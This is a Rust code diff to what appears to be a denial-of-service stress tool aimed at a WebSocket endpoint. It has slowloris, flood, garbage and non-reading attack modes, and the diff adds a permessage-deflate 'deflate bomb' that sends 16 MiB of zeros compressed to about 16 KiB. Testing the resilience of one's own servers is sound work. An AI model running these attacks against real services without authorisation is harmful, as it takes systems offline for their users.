@@ -181,12 +181,12 @@ fn attack_one(
     let mut sent = 0u64;
     let outcome = match args.kind {
         AttackKind::Slowloris => slowloris(&mut stream, host, stop, &mut sent),
-        AttackKind::Flood => match upgrade(&mut stream, host, "/api/v1/ws", &mut rng) {
+        AttackKind::Flood => match upgrade(&mut stream, host, "/api/v1/ws", &mut rng, false) {
             Ok(()) => flood(&mut stream, &mut rng, stop, &mut sent),
             Err(_) => Some(()),
         },
         AttackKind::Garbage => garbage(&mut stream, host, index, &mut rng, stop, &mut sent),
-        AttackKind::Nonreader => match upgrade(&mut stream, host, "/api/v1/ws", &mut rng) {
+        AttackKind::Nonreader => match upgrade(&mut stream, host, "/api/v1/ws", &mut rng, false) {
             Ok(()) => nonreader(&mut stream, args, &mut rng, stop, &mut sent),
             Err(_) => return (Outcome::Failed, 0),
         },
@@ -277,11 +277,17 @@ fn slowloris(stream: &mut TcpStream, host: &str, stop: &AtomicBool, sent: &mut u
     None
 }
 
-fn upgrade(stream: &mut TcpStream, host: &str, path: &str, rng: &mut Rng) -> anyhow::Result<()> {
+fn upgrade(
+    stream: &mut TcpStream,
+    host: &str,
+    path: &str,
+    rng: &mut Rng,
+    deflate: bool,
+) -> anyhow::Result<()> {
     let mut raw = [0u8; 16];
     rng.fill(&mut raw);
     let key = wsproto::make_key(raw);
-    stream.write_all(&wsproto::handshake_request(host, path, &key, false))?;
+    stream.write_all(&wsproto::handshake_request(host, path, &key, deflate))?;
     let mut buf = Vec::new();
     let mut chunk = [0u8; 1024];
     let deadline = Instant::now() + Duration::from_secs(5);
@@ -353,9 +359,20 @@ fn garbage(
     sent: &mut u64,
 ) -> Option<()> {
     // Even connections send garbage as the HTTP head, odd ones as frames
-    // after a valid upgrade.
-    if index % 2 == 1 && upgrade(stream, host, "/api/v1/ws", rng).is_err() {
+    // after a valid upgrade; every fourth negotiates permessage-deflate and
+    // first sends a deflate bomb (a few KiB inflating to 16 MiB).
+    let deflate = index % 4 == 3;
+    if index % 2 == 1 && upgrade(stream, host, "/api/v1/ws", rng, deflate).is_err() {
         return Some(());
+    }
+    if deflate {
+        let mut frame = Vec::new();
+        let mask = (rng.next() as u32).to_be_bytes();
+        // RSV1 (0x40): a compressed text message.
+        wsproto::encode_frame(&mut frame, 0x40 | 0x1, &deflate_bomb(), mask);
+        if write_all_or_closed(stream, &frame, stop, sent) {
+            return Some(());
+        }
     }
     let mut buf = [0u8; 512];
     while !stop.load(Ordering::Relaxed) {
@@ -368,6 +385,18 @@ fn garbage(
         }
     }
     None
+}
+
+/// Raw deflate of 16 MiB of zeros (what a permessage-deflate message
+/// carries): about 16 KiB on the wire.
+fn deflate_bomb() -> Vec<u8> {
+    use std::io::Write as _;
+    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+    let zeros = [0u8; 64 * 1024];
+    for _ in 0..256 {
+        e.write_all(&zeros).expect("writing to a Vec");
+    }
+    e.finish().expect("writing to a Vec")
 }
 
 fn nonreader(
